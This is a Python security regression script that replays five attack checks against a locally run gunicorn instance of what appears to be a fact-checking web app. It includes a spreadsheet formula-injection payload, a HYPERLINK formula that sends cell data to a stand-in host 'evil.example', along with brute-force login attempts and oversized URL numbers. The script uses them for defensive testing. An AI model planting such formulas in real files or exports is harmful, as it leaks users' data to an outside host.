"""The outside attack as a repeatable check, against gunicorn with production settings.

    .venv/bin/python scale/bench/attack.py

It recreates the database `fc_attack` (demo data), starts gunicorn on a free
port of 127.0.0.1 behind a pretend TLS proxy (BEHIND_PROXY=1, one proxy), and
replays the requests of the attack that found the hardening issue's findings:

1. a published claim reopened and edited must show nothing new publicly;
2. a spreadsheet formula arriving through an import must not be exported as one;
3. wrong passwords from one client must not lock the account for another;
4. huge, negative and non-numeric numbers in URLs must never give a 500;
5. a statement too long for the similar-claims index is a form error, not an outage.

It prints PASS or FAIL for each and exits 1 on any failure. Only 127.0.0.1 is
ever contacted. Not part of the test suite (the suite covers each finding); it
takes about half a minute.
"""

import http.cookiejar
import io
import json
import re
import sys
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from scale.bench.server import (
    free_port,
    manage,
    production_env,
    recreate_database,
    start_gunicorn,
    stop,
)

DB_NAME = "fc_attack"
DEMO_PASSWORD = "factcheck-demo"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HUGE = ["18446744073709551616", "9223372036854775807", str(10**24), "-1", "x", "1e9"]
FIND_PUBLISHED = """
from claims.models import Claim
print(Claim.objects.filter(status="published").order_by("pk").values_list("pk", flat=True)[0])
"""


class Client:
    """A browser of sorts: cookies, the CSRF token, and a client address the proxy passes on."""

    def __init__(self, base, address="203.0.113.10"):
        self.base, self.address = base, address
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()), NoRedirect()
        )

    def request(self, path, data=None, files=None):
        headers = {"X-Forwarded-For": self.address, "X-Forwarded-Proto": "https"}
        body = None
        if files is not None:
            body, content_type = multipart(data or {}, files)
            headers["Content-Type"] = content_type
        elif data is not None:
            body = urllib.parse.urlencode(data, doseq=True).encode()
        if body is not None:
            # Behind the proxy the request is HTTPS, so the referer must be too.
            headers["Referer"] = self.base.replace("http://", "https://", 1) + path
        req = urllib.request.Request(self.base + path, data=body, headers=headers)
        try:
            with self.opener.open(req, timeout=60) as response:
                return response.status, response.read(), dict(response.headers)
        except urllib.error.HTTPError as error:
            return error.code, error.read(), dict(error.headers)

    def text(self, path):
        return self.request(path)[1].decode("utf-8", "replace")

    def token(self, path):
        found = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', self.text(path))
        return found.group(1) if found else ""

    def post(self, path, data, page=None, files=None):
        data = {**data, "csrfmiddlewaretoken": self.token(page or path)}
        return self.request(path, data, files)

    def log_in(self, username, password=DEMO_PASSWORD):
        status, _body, headers = self.post("/login/", {"username": username, "password": password})
        return status == 302 and "/login/" not in headers.get("Location", "")


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def multipart(fields, files):
    boundary = uuid.uuid4().hex
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
        out.write(f"{value}\r\n".encode())
    for name, (filename, content) in files.items():
        out.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
            f'filename="{filename}"\r\nContent-Type: text/html\r\n\r\n'.encode()
        )
        out.write(content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


def reopened_claim_shows_nothing_new(base, claim):
    editor = Client(base)
    editor.log_in("editor")
    page = editor.text(f"/claims/{claim}/")
    version = re.search(r'name="version" value="(\d+)"', page).group(1)
    editor.post(
        f"/claims/{claim}/reopen/",
        {"reason": "Attack check", "version": version},
        f"/claims/{claim}/",
    )
    new = "An edited statement nobody reviewed"
    editor.post(
        f"/claims/{claim}/edit/",
        {"statement": new, "new_claimant": "Someone new", "kind": "other"},
    )
    public = Client(base).text(f"/factchecks/{claim}/")
    feed = Client(base).text("/claimreview.json")
    leaked = [words for words in (new, "Someone new") if words in public or words in feed]
    marked = "reviewed again" in public and '"creativeWorkStatus": "Under review"' in feed
    return not leaked and marked, f"leaked {leaked}" if leaked else "page and feed marked"


def no_formula_in_the_export(base, claim):
    editor = Client(base)
    editor.log_in("editor")
    html = (
        "<html><head><title>Trade figures</title>"
        f"<meta property='og:site_name' content='{FORMULA}'></head><body><article>"
        "<p>Trade between the two countries grew by 35% over the last two years, officials said "
        "at a press conference in the capital on Monday morning.</p>"
        "<p>The border between them spans over a thousand kilometers of high mountain passes "
        "that close for several months every winter.</p></article></body></html>"
    ).encode()
    editor.post("/intake/import/", {}, files={"files": ("formula.html", html)})
    status, body, _headers = editor.request("/claims/?status=candidate&_export=xlsx")
    if status != 200:
        return False, f"export answered {status}"
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    formulas = sum(sheet.count("<f>") for sheet in sheets)
    return formulas == 0, f"{formulas} formula cells"


def lockout_is_per_client(base, claim):
    stranger = Client(base, address="198.51.100.66")
    for _ in range(6):
        stranger.log_in("reviewer", password="wrong password")
    locked_for_stranger = not stranger.log_in("reviewer")
    owner_gets_in = Client(base, address="203.0.113.77").log_in("reviewer")
    return owner_gets_in and locked_for_stranger, (
        f"owner {'gets in' if owner_gets_in else 'is locked out'}, "
        f"stranger {'locked' if locked_for_stranger else 'not locked'}"
    )


def numbers_never_give_a_500(base, claim):
    editor = Client(base)
    editor.log_in("editor")
    paths = []
    for value in HUGE:
        quoted = urllib.parse.quote(value)
        paths += [
            f"/claimreview.json?page={quoted}",
            f"/?mine-page={quoted}",
            f"/?reviewed-page={quoted}",
            f"/?settled-page={quoted}",
            f"/claims/?page={quoted}",
            f"/claims/?q=china&page={quoted}",
            f"/claims/?per_page={quoted}",
            f"/articles/?page={quoted}",
            f"/reports/?article={quoted}",
            f"/reports/by/article/?page={quoted}",
            f"/reports/agreement/?page={quoted}",
        ]
    paths += [f"/reports/{r}?end=9999-12-31" for r in ("", "agreement/", "by/outlet/")]
    failures = [p for p in paths if editor.request(p)[0] >= 500]
    return not failures, f"{len(paths)} requests, 500 on {failures[:5]}"


def long_statement_is_a_form_error(base, claim):
    editor = Client(base)
    editor.log_in("editor")
    draft = next(
        int(pk) for pk in re.findall(r'href="/claims/(\d+)/"', editor.text("/claims/?status=draft"))
    )
    status, _body, headers = editor.post(
        f"/claims/{draft}/edit/",
        {"statement": "A very long statement. " * 400, "new_claimant": "X", "kind": "other"},
    )
    return status == 400 and "Retry-After" not in headers, f"answered {status}"


CHECKS = [
    ("1 reopened claim shows nothing new publicly", reopened_claim_shows_nothing_new),
    ("2 no spreadsheet formula in the XLSX export", no_formula_in_the_export),
    ("3 wrong passwords lock one client, not the account", lockout_is_per_client),
    ("4 numbers in URLs never give a 500", numbers_never_give_a_500),
    ("5 a long statement is a form error, not an outage", long_statement_is_a_form_error),
]


def main():
    port = free_port()
    env = production_env(DB_NAME, BEHIND_PROXY="1", AXES_PROXY_COUNT="1")
    print(f"Recreating {DB_NAME} ...", flush=True)
    recreate_database(env, DB_NAME)
    claim = int(manage(env, "shell", "-c", FIND_PUBLISHED, capture=True).split()[-1])
    server = start_gunicorn(env, port, workers=2)
    failed = 0
    try:
        for name, check in CHECKS:
            try:
                ok, detail = check(f"http://127.0.0.1:{port}", claim)
            except Exception as error:
                ok, detail = False, f"{type(error).__name__}: {error}"
            failed += not ok
            print(f"{'PASS' if ok else 'FAIL'}  {name}: {detail}", flush=True)
    finally:
        stop(server)
    print(json.dumps({"checks": len(CHECKS), "failed": failed}))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
